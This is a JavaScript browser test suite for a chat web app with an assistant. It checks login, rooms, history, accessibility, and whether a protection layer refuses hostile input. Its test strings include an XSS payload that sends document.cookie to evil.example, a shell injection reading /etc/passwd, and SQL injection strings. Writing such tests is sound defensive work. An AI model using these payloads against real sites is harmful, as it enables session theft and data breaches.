// What people do on the page, in Chromium: node page.js SCENARIO URL BACKEND_SOCKET FOLDER
//
// FOLDER is ours. Says "ok", or what went wrong, and leaves a picture of each page there. Where the
// backend has to be started anew it says "restart", and goes on when FOLDER/restarted is there.
"use strict";
const assert = require("assert/strict");
const fs = require("fs");
const http = require("http");
const { Chromium, wait } = require("./chromium.js");

const [scenario, url, socket, folder] = process.argv.slice(2);
const PASSWORD = "correct horse battery";
const ATTACK = "hello'; cat /etc/passwd; <script>document.location='http://evil.example/?c='+document.cookie</script>";
const CODE = "Why does this not run?\n\n```html\n<script>alert(document.cookie)</script>\n```\n\nand `SELECT * FROM users WHERE name = '' OR 1=1 --'`";

// --- the backend, without page and gateway -------------------------------------------------------

function request(method, path, body, token, headers = {}) {
  return new Promise((resolve, reject) => {
    const fields = { Host: "localhost", "Content-Type": "application/json", ...headers };
    if (token) fields.Authorization = "Bearer " + token;
    const asked = http.request({ socketPath: socket, method, path: "/api/v1/" + path, headers: fields }, (answer) => {
      let text = "";
      answer.on("data", (data) => (text += data));
      answer.on("end", () => {
        if (answer.statusCode >= 300) return reject(new Error(`${method} ${path}: ${answer.statusCode} ${text}`));
        resolve(text ? JSON.parse(text) : null);
      });
    });
    asked.on("error", reject);
    asked.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

class Account {
  static async make(name, display) {
    const account = new Account();
    account.name = name;
    await request("POST", "register", { name, password: PASSWORD });
    account.token = (await request("POST", "login", { name, password: PASSWORD })).access_token;
    if (display) await account.ask("PATCH", "me", { display_name: display });
    return account;
  }

  ask(method, path, body, headers) {
    return request(method, path, body, this.token, headers);
  }

  async room(name, more = {}) {
    return this.ask("POST", "rooms", { name, visibility: "public", ...more }, { "Idempotency-Key": name });
  }

  join(room) {
    return this.ask("PUT", `rooms/${room.id}/membership`);
  }

  say(room, text) {
    return this.ask("POST", `rooms/${room.id}/messages`, { text, client_id: text.slice(0, 64).replace(/\s/g, "_") });
  }
}

// --- what one sees and does ----------------------------------------------------------------------

async function logIn(page, name, password = PASSWORD) {
  await page.open(url);
  await page.type("#entrance-name", name);
  await page.type("#entrance-password", password);
  await page.press("Enter");
}

async function enter(browser, name, options) {
  const page = await browser.page(options);
  pages.push([name, page]);
  await logIn(page, name);
  await page.see("#side");
  await page.see("#connection.open");
  return page;
}

async function openRoom(page, name) {
  await page.click(".place", name);
  await page.seeText("#room-title", name);
}

async function say(page, text) {
  await page.type("#composer-text", text);
  await page.press("Enter");
}

function texts(page, selector = ".message .said") {
  return page.run((wanted) => [...document.querySelectorAll(wanted)].map((one) => one.innerText.trim()), selector);
}

function untilTexts(page, expected) {
  return page.until((wanted) => {
    const all = [...document.querySelectorAll(".message:not(.pending):not(.kept) .said")].map((one) => one.innerText.trim());
    return JSON.stringify(all) === JSON.stringify(wanted);
  }, expected);
}

// Nothing in the console but requests that were meant to fail.
function noErrors(page, ...meant) {
  const others = page.errors.filter(({ source, text }) => source !== "network" || !meant.some((one) => text.includes(one)));
  assert.deepEqual(others, []);
}

const pages = [];

// --- scenarios -----------------------------------------------------------------------------------

const scenarios = {
  async log_in(browser) {
    await Account.make("ann");
    const page = await browser.page();
    pages.push(["ann", page]);
    await logIn(page, "ann", "not this one at all");
    await page.seeText("#entrance-error", "do not belong together");
    noErrors(page, "401");
    page.errors = [];
    await page.type("#entrance-password", PASSWORD);
    await page.press("Enter");
    await page.see("#connection.open");
    assert.equal(await page.run(() => document.querySelector("#me-name").textContent), "ann");

    const home = page.responses.find((one) => one.url === url);
    const csp = Object.entries(home.headers).find(([name]) => name.toLowerCase() === "content-security-policy");
    assert.equal(csp[1], "default-src 'self'; frame-ancestors 'none'");
    // No script can read a token.
    const kept = await page.run(() => JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]));
    assert.doesNotMatch(kept, /eyJ|fwr_/);
    const cookies = (await page.ask("Network.getAllCookies")).cookies.filter((one) => one.name.includes("refresh"));
    assert.deepEqual(cookies.map(({ httpOnly, secure, sameSite, path }) => [httpOnly, secure, sameSite, path]), [[true, true, "Strict", "/api/v1/refresh"]]);

    await page.reload();
    await page.see("#connection.open");
    const tab = await browser.tab(page.profile);
    pages.push(["tab", tab]);
    await tab.open(url);
    await tab.see("#connection.open");
    await Promise.all([page.reload(), tab.reload()]);  // both refresh in the same moment
    await Promise.all([page.see("#connection.open"), tab.see("#connection.open")]);
    await tab.click("#me");
    await tab.click("dialog button", "Log out everywhere");
    await tab.see("#entrance-name");
    await page.see("#entrance-name");
    await page.seeText("#entrance-hint", "logged out");
    noErrors(page, "401");
    noErrors(tab);
    await page.reload();
    await page.see("#entrance-name");
  },

  async first_password(browser) {
    const first = fs.readFileSync(folder + "/admin_password", "utf8").trim();
    const page = await browser.page();
    pages.push(["admin", page]);
    await logIn(page, "admin", first);
    await page.seeText("#entrance-title", "A password of your own");
    const bad = () => page.run(() => [...document.querySelectorAll("#entrance [aria-invalid=true]")].map((one) => one.id));
    await page.type("#entrance-fresh", "short");
    await page.press("Enter");
    await page.seeText("#entrance-error", "at least 10 characters");
    assert.deepEqual(await bad(), ["entrance-fresh"]);
    await page.type("#entrance-password", "not this one at all");
    await page.type("#entrance-fresh", PASSWORD);
    await page.press("Enter");
    await page.seeText("#entrance-error", "not your current password");
    assert.deepEqual(await bad(), ["entrance-password"]);
    await page.click("[data-language]");
    await page.seeText("#entrance-error", "Это не ваш текущий пароль");
    await page.click("[data-language]");
    // It is still asked for when the page is loaded anew.
    await page.reload();
    await page.seeText("#entrance-title", "A password of your own");
    noErrors(page, "422", "403");
    page.errors = [];
    await page.type("#entrance-password", first);
    await page.type("#entrance-fresh", PASSWORD);
    await page.press("Enter");
    await page.see("#connection.open");
    // Once more from inside: the socket of the session before must not take us out.
    await page.click("#me");
    await page.click("dialog summary");
    await page.type("[name=before]", "not this one at all");
    await page.type("[name=after]", PASSWORD + " staple");
    await page.press("Enter");
    await page.seeText("dialog .form-error", "not your current password");
    noErrors(page, "403");
    page.errors = [];
    await page.type("[name=before]", PASSWORD);
    await page.press("Enter");
    await page.seeText(".notice", "password is changed");
    await page.see("#connection.open");
    await page.reload();
    await page.see("#connection.open");
    noErrors(page);
  },

  async registers_in_russian(browser) {
    const page = await browser.page({ language: "ru-RU" });
    pages.push(["ru", page]);
    await page.open(url);
    await page.seeText("#entrance-title", "Рады вас видеть");
    assert.equal(await page.run(() => document.documentElement.lang), "ru");
    await page.click("#entrance-other");
    await page.seeText("#entrance-rule", "Не меньше 10 знаков");
    await page.type("#entrance-name", "мила");
    await page.type("#entrance-password", "short");
    await page.press("Enter");
    await page.seeText("#entrance-error", "латинские буквы");
    await page.seeText("#entrance-error", "не меньше 10 знаков");
    await page.type("#entrance-password", PASSWORD);
    noErrors(page, "422");
    page.errors = [];
    await page.type("#entrance-name", "mila");
    await page.press("Enter");
    await page.seeText("#connection", "на связи");
    await page.click("#me");
    await page.click("dialog button", "In English");
    await page.seeText("#connection", "connected");
    await page.reload();
    await page.seeText("#connection", "connected");
    noErrors(page);
  },

  // Log-ins are taken at public_url alone: whoever came another way is told where that is.
  async other_address(browser) {
    await Account.make("ann");
    const page = await browser.page({ language: "ru-RU" });
    pages.push(["elsewhere", page]);
    await page.open(url.replace("localhost", "127.0.0.1"));
    await page.type("#entrance-name", "ann");
    await page.type("#entrance-password", PASSWORD);
    await page.press("Enter");
    await page.seeText("#entrance-error", `Этот сайт работает по адресу ${url.replace(/\/$/, "")}.`);
    assert.equal(await page.run(() => document.querySelectorAll("[aria-invalid=true]").length), 0);
    noErrors(page, "403");
  },

  async two_people(browser) {
    const [ann, bob] = [await Account.make("ann", "Ann"), await Account.make("bob", "Bob")];
    const annPage = await enter(browser, "ann");
    const bobPage = await enter(browser, "bob");

    await annPage.click("#new-room");
    await annPage.type("[name=name]", "Kitchen");
    await annPage.press("Enter");
    await annPage.seeText("#room-title", "Kitchen");
    await annPage.click("#room-people");
    await annPage.type("[name=user]", "nobody-here");
    await annPage.press("Enter");
    await annPage.see("dialog .form-error");
    noErrors(annPage, "404", "422");
    annPage.errors = [];
    await annPage.type("[name=user]", "bob");
    await annPage.press("Enter");
    await annPage.seeText(".persons", "Bob");
    await annPage.press("Escape");
    await bobPage.seeText(".invitation", "Kitchen");
    await bobPage.click(".invitation button", "Accept");
    await bobPage.seeText("#room-title", "Kitchen");
    await annPage.seeText("#room-about", "2 here");

    await bobPage.type("#composer-text", "Is any");
    await annPage.seeText("#typing", "Bob is typing");
    await say(bobPage, "Is anybody there?");
    await annPage.seeText(".message .said", "Is anybody there?");
    await annPage.until(() => document.querySelector("#typing").textContent === "");
    await say(annPage, "I am.\nOn two lines.");
    const both = ["Is anybody there?", "I am.\nOn two lines."];
    await untilTexts(annPage, both);
    await untilTexts(bobPage, both);
    assert.ok(await annPage.run(() => document.querySelector("#announcer").textContent.includes("Is anybody there?")));

    // ↑ changes the last one.
    await annPage.press("ArrowUp");
    await annPage.see("#composer-editing");
    await annPage.type("#composer-text", "I am here.");
    await annPage.press("Enter");
    await bobPage.seeText(".message .mark", "edited");
    both[1] = "I am here.\n\nedited";
    await untilTexts(bobPage, both);

    // Unread until it is looked at.
    const other = await ann.room("Support");
    await ann.say(other, "first");
    await bobPage.click("#browse-rooms");
    await bobPage.click("dialog button", "Join");
    await bobPage.seeText("#room-title", "Support");
    await untilTexts(bobPage, ["first"]);
    await say(annPage, "one more");
    await bobPage.seeText(".place", "Kitchen1");
    await openRoom(bobPage, "Kitchen");
    await bobPage.until(() => ![...document.querySelectorAll(".count")].some((one) => one.checkVisibility()));
    await bobPage.see(".new-line");

    // Deleted for everybody, with the keyboard.
    await annPage.run(() => document.querySelector(".message:last-child").focus());
    await annPage.press("Delete");
    await annPage.seeText("dialog h2", "Delete this message?");
    await annPage.click("dialog button[type=submit]");
    await bobPage.seeText(".message .gone", "Message deleted");

    await bobPage.type("#search-text", "anybody");
    await bobPage.press("Enter");
    await bobPage.seeText("#results mark", "anybody");
    // Escape goes back to where one wrote.
    await bobPage.press("Escape");
    await bobPage.see("#room");
    assert.equal(await bobPage.run(() => document.activeElement.id), "composer-text");
    await bobPage.type("#search-text", "anybody");
    await bobPage.press("Enter");
    await bobPage.seeText("#results mark", "anybody");
    await bobPage.click(".result");
    await bobPage.seeText(".message.found", "Is anybody there?");
    noErrors(annPage);
    noErrors(bobPage);
  },

  async history(browser) {
    const ann = await Account.make("ann");
    const room = await ann.room("Long");
    for (let number = 1; number <= 130; ++number) await ann.say(room, "message " + number);
    const page = await enter(browser, "ann");
    await openRoom(page, "Long");
    await page.seeText(".message .said", "message 130");
    assert.ok(await page.run(() => document.querySelectorAll(".message").length) < 130);
    assert.ok(await page.run(() => {
      const box = document.querySelector("#scroll");
      return box.scrollHeight - box.scrollTop - box.clientHeight < 2;
    }));
    // What one reads stays where it is while older messages come above it.
    const place = await page.run(() => {
      const box = document.querySelector("#scroll");
      box.scrollTop = 300;
      const first = [...document.querySelectorAll(".message")].find((one) => one.getBoundingClientRect().top > 150);
      window.watched = first;
      return { top: first.getBoundingClientRect().top, count: document.querySelectorAll(".message").length };
    });
    await page.until((count) => document.querySelectorAll(".message").length > count, place.count);
    const top = await page.run(() => window.watched.getBoundingClientRect().top);
    assert.ok(Math.abs(top - place.top) < 3, `${top} ${place.top}`);
    // A new one at the end does not pull one away either, but says so.
    await ann.say(room, "at the end");
    await page.seeText("#to-end", "To the latest");
    await page.until(() => [...document.querySelectorAll(".message")].at(-1).innerText.includes("at the end"));
    const after = await page.run(() => window.watched.getBoundingClientRect().top);
    assert.ok(Math.abs(after - place.top) < 3, `${after} ${place.top}`);
    for (;;) {
      await page.run(() => { document.querySelector("#scroll").scrollTop = 0; });
      if (await page.run(() => document.querySelector(".message .said").innerText === "message 1")) break;
      await wait(50);
    }
    await page.seeText("#history-line", "The beginning.");
    const all = await texts(page);
    assert.deepEqual(all, [...Array.from({ length: 130 }, (_, at) => "message " + (at + 1)), "at the end"]);
    await page.click("#to-end");
    await page.until(() => document.querySelector("#to-end").hidden);
    // By keyboard one comes past all of them, and not through the buttons of each.
    await page.run(() => document.querySelector("#search-text").focus());
    await tabTo(page, "#composer-text");
    await page.run(() => [...document.querySelectorAll(".message")].at(-2).focus());
    await page.press("Tab");
    assert.ok(await page.run(() => document.activeElement.matches(".message:nth-last-child(2) .acts button")));
    // The field grows and shrinks, faster than the page is drawn: the end stays in sight.
    const write = (text) => page.run((words) => {
      const box = document.querySelector("#composer-text");
      box.value = words;
      box.dispatchEvent(new Event("input"));
    }, text);
    for (let turn = 0; turn < 8; ++turn) {
      await write("line\n".repeat(20));
      await wait(200);
      await write("");
      await write("line\n".repeat(20));
      await page.ask("Input.insertText", { text: "and one" });
      await wait(100);
      assert.ok(await page.run(() => document.querySelector("#to-end").hidden), `the end went out of sight, turn ${turn}`);
    }
    noErrors(page);
  },

  async assistant(browser) {
    await Account.make("ann");
    const page = await enter(browser, "ann");
    await page.click("#new-conversation");
    await page.see("dialog [name=name]");
    await page.type("[name=name]", "Questions");
    await page.press("Enter");
    await page.seeText("#room-title", "Questions");
    // Source code is talked about as text.
    await say(page, CODE);
    await page.see(".message[data-state=streaming]");
    await page.until(() => document.querySelectorAll(".message[data-state=whole] .who.assistant").length === 1);
    const pieces = page.frames.filter((one) => !one.sent && one.text.includes('"answer_piece"'));
    assert.ok(pieces.length > 3, `${pieces.length} pieces`);
    const [asked, answered] = await page.run(() =>
      [...document.querySelectorAll(".message")].map((one) => [...one.querySelectorAll("pre code, .prose code")].map((code) => code.textContent)));
    assert.deepEqual(asked, ["<script>alert(document.cookie)</script>", "SELECT * FROM users WHERE name = '' OR 1=1 --'"]);
    assert.deepEqual(answered, asked);
    assert.equal(await page.run(() => document.querySelectorAll("#messages script").length), 0);

    // The stop button cuts an answer.
    await say(page, "word ".repeat(400) + "the very end");
    await page.see(".message[data-state=streaming]");
    await page.until(() => document.querySelector(".message[data-state=streaming]")?.innerText.includes("word"));
    await page.click("#composer-stop");
    await page.see(".message[data-state=cut]");
    await page.until(() => document.querySelector("#composer-stop").hidden);
    assert.doesNotMatch(await page.run(() => document.querySelector(".message[data-state=cut]").innerText), /the very end/);
    // What was asked can be changed, source code too.
    await page.press("ArrowUp");
    await page.type("#composer-text", "Changed: `<b onclick=alert(1)>`");
    await page.press("Enter");
    await page.seeText(".message .mark", "edited");
    // It is the same after coming back.
    const before = await texts(page);
    await page.reload();
    await page.see(".message[data-state=cut]");
    assert.deepEqual(await texts(page), before);
    assert.ok(before.some((text) => text.startsWith("Changed: <b onclick=alert(1)>")));
    noErrors(page);

    // In a room it answers who addresses it, and everybody sees that.
    const bob = await Account.make("bob");
    const room = await bob.room("Kitchen", { assistant: "echo" });
    await page.click("#browse-rooms");
    await page.click("dialog button", "Join");
    await page.seeText("#room-title", "Kitchen");
    const bobPage = await enter(browser, "bob");
    await openRoom(bobPage, "Kitchen");
    await say(page, "just between us");
    await say(page, "@assistant what is the time?");
    for (const one of [page, bobPage]) {
      await one.until(() => document.querySelectorAll(".message[data-state=whole] .who.assistant").length === 1);
      assert.equal((await texts(one)).length, 3);
    }
    assert.ok(bobPage.frames.some((one) => !one.sent && one.text.includes('"answer_piece"')));
    assert.equal(room.id, await bobPage.run(() => location.hash.slice(2)));

    // Whose room it is changes who answers there and who may join.
    const choose = (name, value) => bobPage.until((field, chosen) => {
      const found = document.querySelector(`dialog[open] select[name=${field}]`);
      if (found) found.value = chosen;
      return found?.value === chosen;
    }, name, value);
    await bobPage.click("#room-menu");
    await choose("assistant", "");
    await choose("visibility", "private");
    await bobPage.click("dialog .primary");
    await page.until(() => /by invitation/.test(document.querySelector("#room-about").textContent) && !/@assistant/.test(document.querySelector("#room-about").textContent));
    await bobPage.click("#room-menu");
    await choose("assistant", "echo");
    await bobPage.click("dialog .primary");
    await page.seeText("#room-about", "@assistant asks echo");
    await page.click("#room-menu");
    await page.see("dialog[open]");
    assert.equal(await page.run(() => document.querySelectorAll("dialog select, dialog input").length), 0);
    await page.press("Escape");
    noErrors(page);
    noErrors(bobPage);
  },

  // The model's server is away: whoever asked sees and hears that, and goes on.
  async dead_model(browser) {
    await Account.make("ann");
    const page = await enter(browser, "ann", { language: "ru-RU" });
    await page.click("#nothing-open button", "Новая беседа");
    await page.see("dialog [name=name]");
    await page.press("Enter");
    await page.see("#room");
    await say(page, "Вы здесь?");
    await page.seeText(".message[data-state=failed] .mark.bad", "Ответить не получилось");
    await page.until(() => document.querySelector("#announcer").textContent.includes("Ответить не получилось"));
    await page.seeText(".mark.bad", "Модель недоступна");
    assert.ok(await page.run(() => document.querySelector("#composer-stop").hidden));
    await page.reload();
    await page.seeText(".message[data-state=failed] .mark.bad", "Ответить не получилось");
    noErrors(page);
  },

  async refused(browser) {
    const [ann, bob] = [await Account.make("ann"), await Account.make("bob")];
    const room = await ann.room("Kitchen");
    await bob.join(room);
    const annPage = await enter(browser, "ann");
    const bobPage = await enter(browser, "bob");
    await openRoom(annPage, "Kitchen");
    await openRoom(bobPage, "Kitchen");
    await say(annPage, "before");
    await untilTexts(bobPage, ["before"]);
    await say(annPage, ATTACK);
    await annPage.seeText(".notice.bad", "Message refused");
    await annPage.seeText(".message.kept .why", "Refused by the protection");
    // What one may want to press then is not under the notice.
    for (const id of ["room-people", "room-menu", "composer-send"]) assert.ok(await onTop(annPage, id), id);
    // The socket is back, by itself; others' and one's own messages go on.
    await annPage.see("#connection.open");
    await bob.say(room, "from bob");
    await say(annPage, "after");
    await untilTexts(annPage, ["before", "from bob", "after"]);
    await untilTexts(bobPage, ["before", "from bob", "after"]);
    assert.equal(annPage.frames.filter((one) => one.sent && one.text.includes("evil.example")).length, 1);
    // The notice stays behind with its room; the text is there when one comes back.
    await annPage.run(() => (location.hash = "#/"));
    await annPage.until(() => document.querySelector(".notice") === null);
    await openRoom(annPage, "Kitchen");
    // Kept to be changed.
    await annPage.click(".message.kept button", "Change");
    assert.equal(await annPage.run(() => document.querySelector("#composer-text").value), ATTACK);
    await annPage.until(() => document.querySelector(".message.kept") === null && document.querySelector(".notice") === null);
    await say(annPage, "harmless now");
    await untilTexts(bobPage, ["before", "from bob", "after", "harmless now"]);

    // A form that is refused says so, and keeps what was typed.
    await annPage.click("#new-room");
    await annPage.type("[name=name]", "<script>alert(1)</script>");
    await annPage.press("Enter");
    await annPage.seeText("dialog .form-error", "refused this request");
    assert.equal(await annPage.run(() => document.querySelector("[name=name]").value), "<script>alert(1)</script>");
    await annPage.press("Escape");
    await annPage.type("#search-text", "' UNION SELECT password FROM users --");
    await annPage.press("Enter");
    await annPage.seeText(".notice.bad", "refused this request");
    noErrors(annPage, "403");
    noErrors(bobPage);
  },

  async restart(browser) {
    const [ann, bob] = [await Account.make("ann"), await Account.make("bob")];
    const room = await ann.room("Kitchen");
    await bob.join(room);
    const annPage = await enter(browser, "ann");
    const bobPage = await enter(browser, "bob");
    await openRoom(annPage, "Kitchen");
    await openRoom(bobPage, "Kitchen");
    await say(annPage, "one");
    await untilTexts(bobPage, ["one"]);
    // Each says much at once, and the backend goes in the middle of it.
    const said = ["one"];
    for (const [page, name] of [[annPage, "ann"], [bobPage, "bob"]]) {
      for (let number = 1; number <= 8; ++number) {
        await say(page, `${name} ${number}`);
        said.push(`${name} ${number}`);
      }
    }
    console.log("restart");
    await annPage.see("#connection:not(.open)");
    await annPage.seeText("#room-about.lost", "no connection");
    for (const [page, name] of [[annPage, "ann"], [bobPage, "bob"]]) {
      await say(page, `${name} in the dark`);
      said.push(`${name} in the dark`);
      await page.seeText(".message.pending .mark", "waits for the connection");
    }
    while (!fs.existsSync(folder + "/restarted")) await wait(20);
    for (const page of [annPage, bobPage]) {
      await page.see("#connection.open");
      await page.seeText("#room-about:not(.lost)", "here");
      await page.until((count) => document.querySelectorAll(".message").length === count && !document.querySelector(".message.pending"), said.length);
    }
    const [annTexts, bobTexts] = [await texts(annPage), await texts(bobPage)];
    assert.deepEqual(annTexts, bobTexts);
    assert.deepEqual([...annTexts].sort(), [...said].sort());
    // Each one's own in the order in which they were said.
    for (const name of ["ann", "bob"]) {
      const own = (all) => all.filter((text) => text.startsWith(name));
      assert.deepEqual(own(annTexts), own(said));
    }
    const stored = await bobPage.run(() => document.querySelectorAll(".message").length);
    await bobPage.reload();
    await bobPage.until((count) => document.querySelectorAll(".message").length === count, stored);
    for (const page of [annPage, bobPage]) noErrors(page, "WebSocket", "502", "503", "504");
  },

  // With tokens of ten seconds: the socket gets fresh ones and stays.
  async fresh_tokens(browser) {
    const bob = await Account.make("bob");
    await Account.make("ann");
    const room = await bob.room("Kitchen");
    const page = await enter(browser, "ann");
    await page.click("#browse-rooms");
    await page.click("dialog button", "Join");
    await page.seeText("#room-title", "Kitchen");
    const sent = (type) => page.frames.filter((one) => one.sent && one.text.includes(`"type":"${type}"`)).length;
    const end = Date.now() + 13000;
    while (Date.now() < end) {
      await wait(500);
      assert.ok(await page.run(() => document.querySelector("#connection").classList.contains("open")));
    }
    assert.ok(sent("auth") >= 2);
    assert.equal(sent("hello"), 1);
    await say(page, "still here");
    await untilTexts(page, ["still here"]);
    await page.click("#room-people");
    await page.seeText(".persons", "ann");
    noErrors(page);
  },

  // Somebody who has nothing yet is shown what to begin with, on a desk and on a phone.
  async newcomer(browser) {
    const host = await Account.make("host");
    await host.room("Kitchen", { assistant: "echo" });
    await Account.make("ann");
    // Over a slow network it says that something is coming, and not that there is nothing.
    const slow = { offline: false, latency: 500, downloadThroughput: -1, uploadThroughput: -1 };
    const desk = await browser.page({ language: "ru-RU" });
    pages.push(["ann", desk]);
    await desk.open(url);
    await desk.see("#entrance-name");
    await desk.ask("Network.emulateNetworkConditions", slow);
    await desk.type("#entrance-name", "ann");
    await desk.type("#entrance-password", PASSWORD);
    await desk.press("Enter");
    await desk.seeText("#rooms", "Загружаем");
    await desk.seeText("#rooms", "Комнат пока нет");
    await desk.ask("Page.reload");
    await desk.seeText("#loading", "Загружаем");
    await desk.ask("Network.emulateNetworkConditions", { ...slow, latency: 0 });
    await desk.see("#connection.open");
    assert.equal(await desk.run(() => document.querySelector("#loading").checkVisibility()), false);
    await accessible(desk, "nothing yet");
    await desk.click("#nothing-open button", "Открытые комнаты");
    await desk.click("dialog button", "Присоединиться");
    await desk.seeText("#room-title", "Kitchen");
    await desk.seeText("#history-line", "ещё ничего не сказали");
    await desk.until(() => document.title === "Kitchen · framewall");
    noErrors(desk);

    await Account.make("bob");
    const phone = await enter(browser, "bob", { width: 360, height: 640, phone: true });
    await accessible(phone, "nothing yet on a phone");
    await phone.click("#conversations button", "New conversation");
    await phone.see("dialog [name=name]");
    await phone.press("Escape");
    await phone.until(() => !document.querySelector("dialog").open);
    await phone.click("#rooms button", "Public rooms");
    await phone.click("dialog button", "Join");
    await phone.seeText("#room-title", "Kitchen");
    // There Enter begins a line, and its key says so; a button sends.
    assert.equal(await phone.run(() => document.querySelector("#composer-text").enterKeyHint), "enter");
    assert.equal(await desk.run(() => document.querySelector("#composer-text").enterKeyHint), "send");
    await phone.type("#composer-text", "one");
    await phone.press("Enter");
    await phone.ask("Input.insertText", { text: "two" });
    await phone.click("#composer-send");
    await untilTexts(desk, ["one\ntwo"]);
    // How to ask the assistant can be read to its end.
    const isWhole = () => phone.run(() => {
      const line = document.querySelector("#room-about");
      return line.textContent.includes("@assistant") && line.scrollHeight <= line.clientHeight + 1;
    });
    assert.ok(await isWhole());
    await phone.run(() => document.querySelector("[data-language]").click());
    await phone.seeText("#room-about", "открытая");
    assert.ok(await isWhole());
    await phone.run(() => document.querySelector("[data-language]").click());
    await phone.click("#room-back");
    await phone.click("#me");
    await phone.see("dialog[open]");
    assert.ok(await phone.run(() => [...document.querySelectorAll("dialog button")].every((one) => !one.checkVisibility() || one.getBoundingClientRect().bottom < innerHeight)), "a button is below the window");
    await accessible(phone, "account on a phone");
    noErrors(phone);
  },

  // The keyboard alone, names for screen readers, contrast, widths.
  async for_everybody(browser) {
    const ann = await Account.make("ann", "Ann Kuznetsova-Montgomery");
    const room = await ann.room("Kitchen");
    await ann.room("Garden");
    await (await Account.make("b".repeat(32), "Bartholomew-Maximilian_" + "x".repeat(40))).join(room);
    await ann.say(room, "hello\n\n```\n" + "a long line of code ".repeat(20) + "\n```\n" + "https://host.example/" + "x".repeat(200));
    for (const [name, options] of Object.entries({
      desktop: { width: 1280, height: 800 },
      dark: { width: 1280, height: 800, dark: true, language: "ru-RU" },
      phone: { width: 390, height: 844, phone: true, language: "ru-RU" },
      tablet: { width: 820, height: 1000 },
      small: { width: 320, height: 640, phone: true, dark: true },
    })) {
      const page = await browser.page(options);
      pages.push([name, page]);
      await page.open(url);
      await page.see("#entrance-name");
      await accessible(page, name + " entrance");
      const keys = !options.phone;
      await page.type("#entrance-name", "ann");
      if (keys) await page.press("Tab");
      else await page.run(() => document.querySelector("#entrance-password").focus());
      await page.ask("Input.insertText", { text: PASSWORD });
      await page.press("Enter");
      await page.see("#connection.open");
      await accessible(page, name + " list");
      if (keys) {
        await tabTo(page, ".place");
        await page.press("ArrowUp");
        await page.press("Home");
        assert.equal(await page.run(() => document.activeElement.innerText.trim()), "Garden");
        await page.press("ArrowDown");
        await page.press("Enter");
      } else {
        await page.click(".place", "Kitchen");
      }
      await page.seeText("#room-title", "Kitchen");
      await page.see(".message");
      await accessible(page, name + " room");
      await page.click("#room-people");
      await page.seeText(".persons", "Kuznetsova");
      await accessible(page, name + " people");
      await page.press("Escape");
      if (keys) {
        // From the beginning past the list: the address, which says the room, stays.
        const address = await page.run(() => {
          document.querySelector(".skip").focus();
          return location.hash;
        });
        await page.press("Enter");
        await page.until(() => document.activeElement.id === "composer-text");
        await wait(100);
        assert.equal(await page.run(() => location.hash), address);
        await tabTo(page, "#composer-text");
        await page.ask("Input.insertText", { text: "by keys" });
        await page.press("Enter", { shift: true });
        await page.ask("Input.insertText", { text: name });
        await page.press("Enter");
        await page.seeText(".message .said", "by keys\n" + name);
        await page.press("k", { control: true });
        assert.equal(await page.run(() => document.activeElement.id), "search-text");
        await tabTo(page, "#me");
        await page.press("Enter");
        await page.see("dialog[open]");
        await accessible(page, name + " dialog");
        await page.press("Escape");
        await page.until(() => !document.querySelector("dialog").open);
        assert.equal(await page.run(() => document.activeElement.id), "me");
      }
      noErrors(page);
    }
  },
};

// Is what is pressed in the middle of it the element itself?
function onTop(page, id) {
  return page.run((wanted) => {
    const box = document.getElementById(wanted).getBoundingClientRect();
    return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)?.closest("button")?.id === wanted;
  }, id);
}

async function tabTo(page, selector) {
  for (let presses = 0; presses < 60; ++presses) {
    if (await page.run((wanted) => document.activeElement?.matches(wanted), selector)) {
      const outline = await page.run(() => {
        const style = getComputedStyle(document.activeElement);
        const around = getComputedStyle(document.activeElement.parentElement);
        return style.outlineStyle !== "none" || around.boxShadow !== "none";
      });
      assert.ok(outline, `${selector} shows no focus`);
      return;
    }
    await page.press("Tab");
  }
  assert.fail(`Tab never comes to ${selector}`);
}

// Nothing wider than the window, every control named, text with a contrast of 4.5 to 1.
async function accessible(page, where) {
  await page.until(() => document.getAnimations().every((one) => one.playState !== "running" || one.effect.getComputedTiming().iterations === Infinity));
  assert.ok(await page.run(() => document.scrollingElement.scrollWidth <= innerWidth), `${where} is too wide`);
  const wide = await page.run(() => [...document.querySelectorAll("dialog[open], #side-lists, #scroll")]
    .filter((one) => one.checkVisibility() && one.scrollWidth > one.clientWidth).map((one) => one.id));
  assert.deepEqual(wide, [], `${where}: has to be moved sideways`);
  const { nodes } = await page.ask("Accessibility.getFullAXTree");
  const controls = ["button", "link", "textbox", "searchbox", "combobox"];
  const nameless = nodes.filter((one) => !one.ignored && controls.includes(one.role?.value) && !one.name?.value);
  assert.deepEqual(nameless.map((one) => one.role.value), [], `${where}: controls without a name`);
  const pale = await page.run(() => {
    const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true });
    const rgb = (color) => {
      canvas.clearRect(0, 0, 1, 1);
      canvas.fillStyle = color;
      canvas.fillRect(0, 0, 1, 1);
      return [...canvas.getImageData(0, 0, 1, 1).data];
    };
    const light = ([r, g, b]) => [r, g, b].map((one) => one / 255).map((one) => (one <= 0.03928 ? one / 12.92 : ((one + 0.055) / 1.055) ** 2.4))
      .reduce((sum, one, at) => sum + one * [0.2126, 0.7152, 0.0722][at], 0);
    const behind = (one) => {
      for (; one; one = one.parentElement) {
        const color = rgb(getComputedStyle(one).backgroundColor);
        if (color[3] === 255) return color;
      }
      return [255, 255, 255, 255];
    };
    const found = [];
    for (const one of document.querySelectorAll("body *")) {
      const hasText = [...one.childNodes].some((child) => child.nodeType === 3 && child.data.trim() !== "");
      if (!hasText || !one.checkVisibility({ opacityProperty: true, visibilityProperty: true }) || one.closest(".unseen, :disabled")) continue;
      const [a, b] = [light(rgb(getComputedStyle(one).color)), light(behind(one))];
      const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
      if (contrast < 4.5) found.push(`${one.tagName}.${one.className} ${contrast.toFixed(2)} "${one.textContent.trim().slice(0, 20)}"`);
    }
    return found;
  });
  assert.deepEqual(pale, [], `${where}: too pale`);
}

async function main() {
  const browser = await Chromium.start(folder);
  try {
    await scenarios[scenario](browser);
    console.log("ok");
  } catch (error) {
    console.log(error.stack);
    process.exitCode = 1;
  }
  for (const [at, [name, page]] of pages.entries()) {
    await page.screenshot(`${folder}/${scenario}-${at}-${name}.png`).catch(() => {});
    if (process.exitCode) console.log(name, JSON.stringify(page.errors), JSON.stringify(page.frames.slice(-12)));
  }
  await browser.stop();
}

main();
